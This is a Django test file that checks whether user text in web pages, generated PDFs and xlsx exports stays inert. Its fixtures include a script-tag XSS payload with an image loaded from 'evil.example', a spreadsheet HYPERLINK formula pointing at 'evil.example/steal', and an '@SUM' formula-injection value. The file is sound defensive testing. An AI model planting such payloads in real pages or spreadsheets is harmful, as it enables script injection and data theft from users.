"""User text in pages, PDFs and xlsx stays text: no markup, script, remote
resource or formula gets through to the reader."""

import subprocess
import zipfile
from datetime import date
from io import BytesIO
from unittest import mock

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from inspections.models import LedgerItem
from reports.models import Job, JobStatus
from reports.services import job_execute, job_request

HOSTILE = '<script>alert(1)</script><img src="http://evil.example/x.png">'
FORMULA = '=HYPERLINK("http://evil.example/steal","点我")'


def _ledger_item(cast, text):
    return LedgerItem.objects.create(
        branch=cast.branch,
        problem=text,
        task=FORMULA,
        responsible="@SUM(A1:A9)",
        deadline=date(2026, 12, 31),
        status="closed",
        closed_at=timezone.now(),
        created_by=cast.users["township_staff"],
    )


def test_pages_show_user_text_as_text(cast, client_for):
    client = client_for(cast.users["branch_secretary"])
    client.post(
        reverse("records:problems", args=[cast.branch.pk]),
        {"category": "governance", "title": HOSTILE, "solved_on": "2026-03-02"},
    )
    html = client.get(reverse("records:problems", args=[cast.branch.pk]) + "?year=2026").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(1)" not in html and 'src="http://evil.example' not in html


def test_pdfs_print_user_text_and_fetch_nothing_from_outside(cast, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    _ledger_item(cast, HOSTILE)
    from reports import pdf

    asked = []  # every resource the renderer asks for while printing the user's text
    real = pdf._static_only_fetcher

    def recording():
        fetcher = real()
        fetch = fetcher.fetch

        def spy(url, *args, **kwargs):
            asked.append(url)
            return fetch(url, *args, **kwargs)

        fetcher.fetch = spy
        return fetcher

    with mock.patch.object(pdf, "_static_only_fetcher", recording):
        job, _ = job_request(
            user=cast.users["township_staff"],
            kind="annual_summary",
            params={"branch": cast.branch.pk, "year": timezone.localdate().year},  # the year the item was closed
        )
        job_execute(job.pk)
    assert asked, "the spy saw no fetch at all (the stylesheet is one)"
    assert all(url.startswith(f"file://{pdf.STATIC_DIR}/") for url in asked), asked
    assert not any("evil.example" in url for url in asked)
    job = Job.objects.get(pk=job.pk)
    assert job.status == JobStatus.SUCCEEDED, job.error
    text = (
        subprocess.run(["pdftotext", "-layout", job.file.path, "-"], capture_output=True, text=True, check=True)
        .stdout.replace("\n", "")
        .replace(" ", "")
    )
    assert "<script>alert(1)</script>" in text  # printed as the characters typed


def test_xlsx_cells_of_user_text_are_never_formulas(cast, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    _ledger_item(cast, FORMULA)
    job, _ = job_request(user=cast.users["township_staff"], kind="ledger_items_xlsx", params={})
    job_execute(job.pk)
    job = Job.objects.get(pk=job.pk)
    data = job.file.read()
    sheet = load_workbook(BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    hostile = [cell for cell in cells if "HYPERLINK" in cell.value or "SUM(A1" in cell.value]
    assert len(hostile) == 3
    # text as typed, stored as text with Excel's quote prefix: never a formula, nothing added to print
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
    assert {cell.value for cell in hostile} == {FORMULA, "@SUM(A1:A9)"}
    raw = zipfile.ZipFile(BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw and b"<f " not in raw
